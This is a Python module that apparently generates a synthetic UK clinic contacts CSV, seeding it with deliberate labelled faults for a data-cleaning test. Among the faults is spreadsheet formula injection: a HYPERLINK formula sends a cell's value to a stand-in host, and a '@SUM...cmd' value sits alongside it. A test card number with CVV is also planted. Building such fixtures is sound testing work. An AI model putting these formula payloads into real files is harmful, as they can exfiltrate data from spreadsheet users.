"""The UK clinic's contacts, as Wix writes them, with what is wrong in them."""

from datetime import date, timedelta
from pathlib import Path
from typing import Any

from sample_data.generator import faults as f
from sample_data.generator.columns import UK
from sample_data.generator.draws import chance, expand, rng
from sample_data.generator.faults import Faults
from sample_data.generator.medical import health_of
from sample_data.generator.people import Person
from sample_data.generator.world import World
from sample_data.generator.writing import csv_text, write

FILE = "contacts.csv"
_TEAS = ["builder's", "Earl Grey", "none, coffee", "peppermint", "oolong", ""]
_STATUS = {"deceased": "Deceased", "complaint": "Complaint open", "legal_hold": "Legal hold",
           "restricted": "Restricted", "objects": "Objects"}  # fmt: skip


def write_contacts(world: World, folder: Path, faults: Faults) -> dict[str, list[int]]:
    """Writes contacts.csv; gives the rows of each client by client ref."""
    rows = [_contact(world, person) for person in world.people]
    for person in world.people:
        rows += _second_rows(world, person)
    rows.append(dict(rows[5 % len(rows)]))
    for place, row in enumerate(rows, 1):
        _spoil(row, place, faults)
    faults.add("duplicated row", FILE, len(rows), f.IGNORED, "the same row, letter by letter")
    where: dict[str, list[int]] = {}
    for place, row in enumerate(rows, 1):
        where.setdefault(row["true_ref"], []).append(place)
    faults.rows[FILE] = len(rows)
    write(folder / FILE, "\ufeff" + csv_text(UK[FILE], rows))
    return where


def _phone(person: Person) -> str:
    """The mobile in one of the spellings people type."""
    draw, digits = rng("spelling", person.n), person.phone
    return draw.choice([f"{digits[:5]} {digits[5:]}", digits, f"+44 {digits[1:5]} {digits[5:]}",
                        f"+44{digits[1:]}", f"{digits[:5]} {digits[5:8]} {digits[8:]}",
                        digits[1:]])  # fmt: skip


def _contact(world: World, person: Person) -> dict[str, Any]:
    draw = rng(world.seed, "contact", person.n)
    course, health = world.courses[person.n], health_of(person)
    first = course.visits[0].day - timedelta(days=draw.randrange(1, 20))
    last, status = course.attended[-1].day, _STATUS.get(person.role, "Active")
    labels = ["Contacted Me", *(["VIP"] if chance(draw, 0.1) else [])]
    labels += [status] if status != "Active" else []
    return {
        "true_ref": person.ref, "role": person.role, "last_day": last,
        "first": person.first, "last": person.last, "email1": person.email,
        "email2": person.email2, "phone1": _phone(person), "phone2": person.phone2,
        "a_type": draw.choice(["Home", ""]), "a_street": person.street, "a_line2": person.line2,
        "a_city": person.city, "a_region": person.region, "a_zip": person.postcode,
        "a_country": "United Kingdom", "b_type": "", "company": person.employer,
        "labels": ", ".join(labels), "created": f"{first} 0{draw.randrange(10)}:12:00",
        "email_status": draw.choice(["Subscribed", "Never subscribed", "Subscribed"]),
        "sms_status": draw.choice(["Subscribed", "Never subscribed", "Never subscribed"]),
        "activity": draw.choice(["Booked a service", "Logged in", "Submitted a form"]),
        "activity_at": f"{last} 14:05:00", "source": draw.choice(["Bookings", "Form", "Import"]),
        "language": "en-gb", "born": _born(draw, person.born), "ref": person.ref,
        "known": person.known, "gender": {"F": "Female", "M": "Male", "X": "Non-binary"}[person.sex],
        "pronouns": {"X": "they/them"}.get(person.sex, ""), "occupation": person.job,
        "nhs": person.health_number if chance(draw, 0.3) else "", "status": status,
        "status_since": (last + timedelta(days=20)).isoformat() if status != "Active" else "",
        "alert": health.allergies[0][0] if health.allergies else "", "tea": draw.choice(_TEAS),
    }  # fmt: skip


def _born(draw: Any, born: date) -> str:
    return (
        born.isoformat()
        if chance(draw, 0.9)
        else expand(draw, f"{{{born:%d/%m/%Y}|{born.day} {born:%B %Y}}}", {})
    )


def _second_rows(world: World, person: Person) -> list[dict[str, Any]]:
    """A second row for those who signed up twice."""
    changes: dict[str, dict[str, str]] = {
        "double_exact": {"source": "Form", "company": "", "ref": ""},
        "double_phone": {"email1": f"{person.last.lower()}.new{person.n}@example.net", "ref": "",
                         "phone1": f"+44 (0){person.phone[1:5]} {person.phone[5:]}"},
        "double_nickname": {"first": "Peggy", "email1": "", "ref": "", "born": ""},
        "double_review": {"email1": "", "ref": "", "born": "", "source": "Form"},
    }  # fmt: skip
    if person.role not in changes:
        return []
    return [_contact(world, person) | changes[person.role] | {"role": f"{person.role}_2"}]


def _spoil(row: dict[str, Any], place: int, faults: Faults) -> None:
    """Changes one row by its client's role, and writes down what was done."""
    soon = row["last_day"] + timedelta(days=1)
    plan: dict[str, tuple[dict[str, str], str, str, str]] = {
        "partial_year": ({"born": row["born"][:4] if row["born"][:4].isdigit() else row["born"][-4:]},
                         "partial birthday", f.KEPT, "only the year is known"),
        "partial_no_year": ({"born": "--05-17"}, "partial birthday", f.KEPT, "the year is missing"),
        "age_unknown": ({"born": ""}, "age unknown", f.KEPT, "no birth date anywhere"),
        "impossible_birth": ({"born": "31/02/1988"}, "impossible date", f.QUARANTINE,
                             "31 February"),
        "birth_after_visit": ({"born": soon.isoformat()}, "birth after treatment", f.KEPT,
                              "born after every visit: the visits wait in quarantine"),
        "future_birth": ({"born": "2031-08-14"}, "future birth date", f.QUARANTINE, "not born yet"),
        "bad_email": ({"email1": row["email1"].replace("@", " at ")}, "e-mail invalid", f.WARNING,
                      "no at sign"),
        "bad_phone": ({"phone1": "0770090"}, "phone invalid", f.WARNING, "too short"),
        "bad_postcode": ({"a_zip": "HG66 66Z"}, "postcode invalid", f.WARNING, "no such shape"),
        "zip_plus_4": ({"labels": "Contacted Me, NA", "gender": "NA", "occupation": "N/A"},
                       "words for nothing", f.KEPT, "NA and N/A are text, not gaps in the file"),
        "canadian": ({"a_zip": "K1A 0B1", "a_country": "Canada", "a_city": "Ottawa"},
                     "Canadian code", f.KEPT, "a right code of another country"),
        "formula": ({"company": '=HYPERLINK("http://prize.example/?q="&C2,"Open")',
                     "occupation": "@SUM(1+1)*cmd", "a_line2": "+1 Annexe", "tea": "-2+3"},
                    "formula cells", f.KEPT, "text that a spreadsheet would run"),
        "phone_escape": ({"phone1": f"'+44{row['phone1'].replace(' ', '').removeprefix('+44').lstrip('0')}",
                          "phone2": "\\+441632960321"}, "phone escapes", f.KEPT,
                         "apostrophe and backslash before the plus"),
        "card_in_note": ({"alert": "pays by card 4111 1111 1111 1111 cvv 123"},
                         "card number in a field", f.MASKED, "a full card number and its code"),
        "unsubscribed": ({"email_status": "Unsubscribed", "sms_status": "Unsubscribed"},
                         "marketing unsubscribed", f.KEPT, "no marketing, all else allowed"),
        "null": ({}, "surname Null", f.KEPT, "a name, not a missing value"),
        "rtl": ({}, "right-to-left name", f.KEPT, "a name"),
        "zero_width": ({}, "zero-width characters", f.KEPT, "invisible letters and a curly apostrophe"),
        "combining": ({}, "combining characters", f.KEPT, "the same name in two encodings"),
        "emoji": ({}, "emoji in a name", f.KEPT, "as the client typed it"),
        "double_exact_2": ({}, "one client on two rows", f.KEPT, "same name, birth date and e-mail"),
        "double_phone_2": ({}, "one client on two rows", f.KEPT, "same name, birth date and phone"),
        "double_nickname_2": ({}, "one client on two rows", f.KEPT, "nickname and phone: for review"),
        "double_review_2": ({}, "one client on two rows", f.KEPT, "same name and phone: for review"),
        "twin_b": ({}, "twins", f.KEPT, "same birth date, e-mail and address: two people"),
        "daughter": ({}, "family sharing phone and e-mail", f.KEPT, "mother and daughter: two people"),
        "shared_phone_b": ({}, "family sharing a phone", f.KEPT, "partners: two people"),
        "minor": ({}, "under 18 at treatment", f.KEPT, "UK: kept, in no case set"),
        "turned_18": ({}, "under 18 at treatment", f.KEPT, "came of age between visits"),
        "deceased": ({}, "deceased", f.KEPT, "in no case set"),
        "complaint": ({}, "open complaint", f.KEPT, "in no case set"),
        "legal_hold": ({}, "legal hold", f.KEPT, "in no case set, never erased"),
        "objects": ({}, "objecting client", f.KEPT, "in no case set"),
        "restricted": ({}, "restricted client", f.KEPT, "in no case set"),
        "staff": ({}, "staff who is a client", f.KEPT, "in no case set"),
        "shares_with_staff": ({}, "shares address and phone with staff", f.KEPT, "in no case set"),
    }  # fmt: skip
    if row["role"] in plan:
        changes, fault, expect, why = plan[row["role"]]
        row.update(changes)
        faults.add(fault, FILE, place, expect, why)
